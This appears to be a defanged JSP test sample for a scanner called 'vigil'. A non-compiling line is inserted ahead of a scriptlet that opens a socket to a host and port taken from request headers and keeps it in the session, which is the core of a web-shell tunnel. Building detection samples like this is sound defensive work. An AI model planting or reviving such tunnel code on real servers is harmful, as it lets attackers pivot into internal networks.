<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String host = request.getHeader("X-TARGET");
int port = Integer.parseInt(request.getHeader("X-PORT"));
java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open();
ch.connect(new java.net.InetSocketAddress(host, port));
session.setAttribute("socket", ch);
%>
